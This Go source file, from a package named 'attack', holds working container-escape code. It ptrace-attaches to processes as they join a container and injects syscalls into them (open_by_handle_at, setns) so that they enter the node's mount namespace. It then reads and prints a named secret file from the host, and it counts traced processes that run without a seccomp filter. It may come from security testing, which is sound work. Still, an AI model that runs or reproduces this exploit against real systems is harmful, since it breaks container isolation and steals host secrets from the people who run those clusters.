package attack

import (
	"errors"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// hijackJoins traces every process that comes, as fast as it can, and makes it open the
// node's mount namespace by its handle: args are how many, the handle, and a secret.
// CAP_SYS_PTRACE lets it attach; what joins may have no more to give than the container.
func hijackJoins(args []string) error {
	runtime.LockOSThread()
	enough, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	h, err := parseHandle(args[1])
	if err != nil {
		return err
	}
	known := map[int]bool{}
	nextPID(known)
	for pid := nextPID(known); pid != 0; pid = nextPID(known) {
		known[pid] = true
	}
	attached, strong := 0, 0
	for end := time.Now().Add(patience); attached < enough && time.Now().Before(end); {
		for pid := nextPID(known); pid != 0; pid = nextPID(known) {
			known[pid] = true
			if unix.PtraceAttach(pid) != nil {
				continue
			}
			attached++
			text, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
			if strings.Contains(string(text), "Seccomp:\t0") {
				strong++
			}
			lookJoining("/proc/"+strconv.Itoa(pid), args[2])
			p := &puppet{pid: pid}
			if err := p.begin(); err == nil {
				p.openNamespace(h, args[2])
			}
			p.end()
		}
	}
	fmt.Println(attached, "traced", strong, "without a filter")
	if attached < enough {
		return errors.New("too few processes were traced")
	}
	return nil
}

func (p *puppet) openNamespace(h nsHandle, secret string) {
	own := p.do(unix.SYS_OPENAT, ^uint64(99), p.poke([]byte("/proc/self/ns/mnt\x00")), unix.O_RDONLY)
	bytes := unsafe.Slice((*byte)(unsafe.Pointer(&h)), unsafe.Sizeof(h))
	fd := p.do(unix.SYS_OPEN_BY_HANDLE_AT, uint64(own), p.poke(append([]byte(nil), bytes...)), unix.O_RDONLY)
	if own < 0 || fd < 0 {
		return
	}
	got("a namespace, by a process that joins")
	if p.do(unix.SYS_SETNS, uint64(fd), unix.CLONE_NEWNS) != 0 {
		return
	}
	file := p.do(unix.SYS_OPENAT, ^uint64(99), p.poke(append([]byte(secret), 0)), unix.O_RDONLY)
	if file >= 0 {
		n := p.do(unix.SYS_READ, uint64(file), p.scratch, 100)
		got("the secret: %s", p.peek(int(max(n, 0))))
	}
}
